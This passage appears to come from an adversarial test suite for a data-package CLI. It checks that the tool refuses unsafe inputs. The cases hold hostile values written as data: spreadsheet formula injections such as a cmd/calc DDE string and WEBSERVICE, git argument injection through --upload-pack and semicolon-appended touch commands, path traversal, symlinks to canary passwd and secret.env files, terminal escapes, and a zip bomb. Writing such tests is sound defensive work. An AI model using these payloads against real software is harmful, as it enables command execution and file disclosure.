    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    return Cli(["publish", "datapackage", "--to", f"postgresql://u:{TOKEN_MARK}@127.0.0.1:{port}/db"])


@case("targets", 2)
def target_unknown_scheme(world: World) -> Run:
    return Cli(["publish", "datapackage", "--to", "s3://bucket/claims.sqlite"])


@case("targets", 2)
def target_file_url(world: World) -> Run:
    return Cli(["publish", "datapackage", "--to", f"file://{world.repo}/dist/out.sqlite"])


def _refused_keeps_previous(kind: str) -> Setup:
    def setup(world: World) -> Run:
        previous = world.previous(kind)
        change_cell(world, "claims", "value", "9999", rehash=False)  # tampered: refused before writing
        return Cli(["publish", "datapackage", "--to", str(previous.relative_to(world.repo))])

    return setup


for _kind in ("previous.zip", "previous.sqlite", "previous.duckdb", "previous.xlsx", "previous-parquet"):
    _name = _kind.replace("previous.", "").replace("previous-", "")
    register(f"target-refused-keeps-previous-{_name}", "targets", _refused_keeps_previous(_kind), 2)


def _xlsx_text(cells: list[str], where: str) -> Setup:
    def setup(world: World) -> Run:
        if where == "cells":
            rows = world.rows("statements")
            for row, text in zip(rows, cells, strict=False):
                row["text"] = text
            world.write_rows("statements", rows)
        else:
            world.edit(lambda d: d.update(description=cells[0], title=cells[1]))
        world.output("dist")

        def stored_as_text(outcome: Outcome) -> None:
            from openpyxl import load_workbook

            book = load_workbook(world.repo / "dist" / "out.xlsx")
            found = {
                cell.value: cell.data_type
                for sheet in book.worksheets
                for row in sheet.iter_rows()
                for cell in row
                if cell.value in cells
            }
            assert found == dict.fromkeys(cells, "s"), found

        world.checks.append(stored_as_text)
        return Cli(["publish", "datapackage", "--to", "dist/out.xlsx", "--no-check"])

    return setup


register(
    "target-xlsx-formula-cells",
    "targets",
    _xlsx_text(['=HYPERLINK("http://example.org/x","klikk her")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1)"], "cells"),
    0,
)
register(
    "target-xlsx-formula-about",
    "targets",
    _xlsx_text(['=HYPERLINK("http://example.org/x","klikk her")', '=WEBSERVICE("http://x")'], "about"),
    0,
)


@case(
    "targets",
    2,
)
def target_xlsx_control_character_in_description(world: World) -> Run:
    world.edit(lambda d: d.update(description="bell\x07here"))
    return Cli(["publish", "datapackage", "--to", "dist/out.xlsx"])


@case(
    "targets",
    2,
)
def target_terminal_escape_in_name(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "dates").update(name="dates\x1b]0;pwned\x07"))
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite", "--no-check"])


# =============================================================================================
# git revisions are never options


@case("git", 0)
def git_diff_head_works(world: World) -> Run:
    return Cli(["diff", "git:HEAD", "datapackage"])


def _git(args: Callable[[World], list[str]]) -> Setup:
    def setup(world: World) -> Run:
        return Cli(args(world))

    return setup


register("git-diff-output-option", "git", _git(lambda w: ["diff", f"git:--output={w.root}/x", "datapackage"]), 2)
register(
    "git-diff-upload-pack", "git", _git(lambda w: ["diff", f"git:--upload-pack=touch {w.root}/x", "datapackage"]), 2
)
register("git-diff-bare-option", "git", _git(lambda w: ["diff", "--", f"--output={w.root}/x", "datapackage"]), 2)
register("git-diff-unknown-option", "git", _git(lambda w: ["diff", f"--output={w.root}/x", "datapackage"]), 2)
register("git-diff-folder-dotdot", "git", _git(lambda w: ["diff", "git:HEAD:../../canary", "datapackage"]), 2)
register("git-diff-shell-chars", "git", _git(lambda w: ["diff", f"git:HEAD;touch {w.root}/x", "datapackage"]), 2)
register(
    "git-release-against-option",
    "git",
    _git(lambda w: ["release", "--against", f"git:--output={w.root}/x"]),
    2,
)


# =============================================================================================
# build


def _seed_named(name: str) -> Setup:
    def setup(world: World) -> Run:
        source = world.repo / "seeds" / "000_ce1b982170328aa1"
        shutil.copy(source.with_suffix(".txt"), world.repo / "seeds" / f"{name}.txt")
        shutil.copy(source.with_name(source.name + ".meta.json"), world.repo / "seeds" / f"{name}.meta.json")
        return Cli(["build", "--workers", "1", "-q"])

    return setup


for _label, _seed in (
    ("space", "a b"),
    ("unicode", "æøå✓"),
    ("dash", "-rf"),
    ("colon", "a:b"),
    ("dotdot", "..a"),
    ("newline", "a\nb"),
):
    register(f"build-seed-name-{_label}", "build", _seed_named(_seed), 2)


def _new_seed(world: World, text: bytes | None = None, sidecar: bytes | None = None, name: str = "x") -> None:
    source = world.repo / "seeds" / "000_ce1b982170328aa1"
    (world.repo / "seeds" / f"{name}.txt").write_bytes(text if text is not None else b"Tekst om 3.000 mennesker.\n")
    meta = sidecar if sidecar is not None else source.with_name(source.name + ".meta.json").read_bytes()
    (world.repo / "seeds" / f"{name}.meta.json").write_bytes(meta)


@case("build", 2)
def build_seed_symlink_out(world: World) -> Run:
    _new_seed(world, name="evil")
    (world.repo / "seeds" / "evil.txt").unlink()
    (world.repo / "seeds" / "evil.txt").symlink_to(world.canary / "passwd")
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_sidecar_symlink_out(world: World) -> Run:
    _new_seed(world)
    (world.repo / "seeds" / "x.meta.json").unlink()
    (world.repo / "seeds" / "x.meta.json").symlink_to(world.canary / "secret.env")
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_sidecar_is_a_folder(world: World) -> Run:
    _new_seed(world)
    (world.repo / "seeds" / "x.meta.json").unlink()
    (world.repo / "seeds" / "x.meta.json").mkdir()
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_sidecar_unreadable(world: World) -> Run:
    _new_seed(world)
    sidecar = world.repo / "seeds" / "x.meta.json"
    sidecar.chmod(0)
    world.output(sidecar)  # its mode is the case's doing
    if os.geteuid() != 0:
        return Cli(["build", "--workers", "1", "-q"])
    real_open = pathlib.Path.open  # root reads anything: make the open fail as it would for a user

    def refusing_open(self: pathlib.Path, *args: Any, **kwargs: Any) -> Any:
        if self.name == "x.meta.json":
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    return Cli(["build", "--workers", "1", "-q"], patches=[(pathlib.Path, "open", refusing_open)])


@case("build", 2)
def build_sidecar_nested_deeply(world: World) -> Run:
    _new_seed(world, sidecar=b"[" * 100_000)
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_sidecar_published_in_2999(world: World) -> Run:
    meta = {"language": "nb", "published": "2999-01-01", "title": None, "publisher": None, "url": None, "authors": None}
    _new_seed(world, sidecar=json.dumps(meta).encode())
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_sidecar_secret_values(world: World) -> Run:
    meta = {"language": TOKEN_MARK, "published": PASSWD_MARK, "title": 5, "publisher": None, "url": None}
    _new_seed(world, sidecar=json.dumps(meta).encode())
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_seed_is_a_fifo(world: World) -> Run:
    _new_seed(world)
    (world.repo / "seeds" / "x.txt").unlink()
    os.mkfifo(world.repo / "seeds" / "x.txt")
    return Process(claimpack_argv("build", "--workers", "1", "-q"), timeout=30)


@case("build", 2)
def build_seed_binary(world: World) -> Run:
    _new_seed(world, text=b"Tekst\x00\xff\xfe binary\n")
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_seed_with_escape_sequences(world: World) -> Run:
    _new_seed(world, text=b"Tekst \x1b[2J om 3.000 mennesker.\n")
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_out_is_a_file(world: World) -> Run:
    (world.repo / "afile").write_text("x\n")
    return Cli(["build", "--workers", "1", "-q", "--out", "afile"])


@case("build", 2)
def build_max_bytes_negative(world: World) -> Run:
    return Cli(["build", "--max-bytes", "-1"])


@case("build", 2)
def build_workers_zero(world: World) -> Run:
    return Cli(["build", "--workers", "0"])


@case("build", 2)
def build_seeds_folder_missing(world: World) -> Run:
    return Cli(["build", "nowhere", "--workers", "1", "-q"])


@case(
    "build",
    2,
)
def build_out_symlink_out(world: World) -> Run:
    """datapackage/ is a symlink to a folder outside the project: the build must not swap (and then
    delete) that folder."""
    shutil.rmtree(world.package)
    world.package.symlink_to(world.canary / "tree")
    return Cli(["build", "--workers", "1", "-q"])


@case("build", 2)
def build_check_nested_descriptor(world: World) -> Run:
    (world.package / "datapackage.json").write_text("[" * 100_000)
    return Cli(["build", "--check", "--workers", "1", "-q"])


# =============================================================================================
# release


def _epoch(value: str) -> Setup:
    def setup(world: World) -> Run:
        return Cli(["release"], env={"SOURCE_DATE_EPOCH": value})

    return setup


for _label, _value in (
    ("notanumber", "notanumber"),
    ("huge", "99999999999999"),
    ("negative", "-5"),
    ("empty-ish", " "),
):
    register(f"release-epoch-{_label}", "release", _epoch(_value), 2)
register(
    "release-epoch-superscript",
    "release",
    _epoch("²"),
    2,
)


@case(
    "release",
    (0, 2),
)
def release_changelog_symlink_out(world: World) -> Run:
    (world.package / "CHANGELOG.md").symlink_to(world.canary / "secret.env")
    world.output("datapackage", "validate")
    return Cli(["release"])


@case(
    "release",
    (0, 2),
)
def release_data_symlink_out(world: World) -> Run:
    (world.package / "data" / "notes.txt").symlink_to(world.canary / "secret.env")
    world.output("datapackage", "validate")
    return Cli(["release"])


def _version_escape(version: Callable[[World], str]) -> Setup:
    def setup(world: World) -> Run:
        folder = world.repo / "small"
        (folder / "data").mkdir(parents=True)
        (folder / "data" / "t.csv").write_text("id\n1\n")
        resource = {"name": "t", "path": "data/t.csv", "schema": {"fields": [{"name": "id", "type": "integer"}]}}
        (folder / "datapackage.json").write_text(
            json.dumps({"name": "small", "version": version(world), "resources": [resource]})
        )
        world.output("small", "validate")
        return Cli(["release", "--package", "small"])

    return setup


_VERSION_DEFECT = (
    "release writes validate/releases/<version>.json with the descriptor's version unchecked (a package that "
    "is not claimpack's skips the profile): '../../x' or an absolute path writes the record outside"
)
register(
    "release-version-dotdot",
    "release",
    _version_escape(lambda w: "../../../canary/pwned"),
    2,
)
register(
    "release-version-absolute",
    "release",
    _version_escape(lambda w: str(w.root / "pwned")),
    2,
)


# =============================================================================================
# diff


@case("diff", 2)
def diff_nested_descriptor(world: World) -> Run:
    (world.repo / "deep").mkdir()
    (world.repo / "deep" / "datapackage.json").write_text('{"a": ' + "[" * 100_000)
    return Cli(["diff", "datapackage", "deep"])


@case(
    "diff",
    2,
)
def diff_primary_key_not_a_list(world: World) -> Run:
    shutil.copytree(world.package, world.repo / "other")
    world.edit(lambda d: world.resource(d, "claims")["schema"].update(primaryKey=5), world.repo / "other")
    return Cli(["diff", "datapackage", "other"])


@case("diff", 2)
def diff_zip_bomb(world: World) -> Run:
    zip_package(world, "bomb.zip", [(regular("data/claims.csv"), bytes(80 * 1024**2))])
    return Cli(["diff", "bomb.zip", "datapackage"])


# =============================================================================================
# load()


@case("load", 2)
def load_tampered_value(world: World) -> Run:
    import claimpack

    change_cell(world, "claims", "value", "9999", rehash=False)
    package = world.package
    return Api(lambda: claimpack.load(package))


@case("load", 0)
def load_tampered_value_verify_false(world: World) -> Run:
    import claimpack

    change_cell(world, "claims", "value", "9999", rehash=False)
    package = world.package

    def call() -> object:
        tables = claimpack.load(package, verify=False)
        assert float(tables["claims"]["value"].iloc[0]) == 9999.0
        return len(tables)

    return Api(call)


@case("load", 2)
def load_unknown_hash_algorithm(world: World) -> Run:
    import claimpack

    data = world.descriptor()
    world.resource(data, "claims")["hash"] = "whirlpool:abc"
    world.write_descriptor(data, rehash=False)
    package = world.package
    return Api(lambda: claimpack.load(package))


def _categories() -> dict[str, int]:
    counts: dict[str, int] = {}
    for item in CASES:
        counts[item.category] = counts.get(item.category, 0) + 1
    return counts


CATEGORIES = _categories()
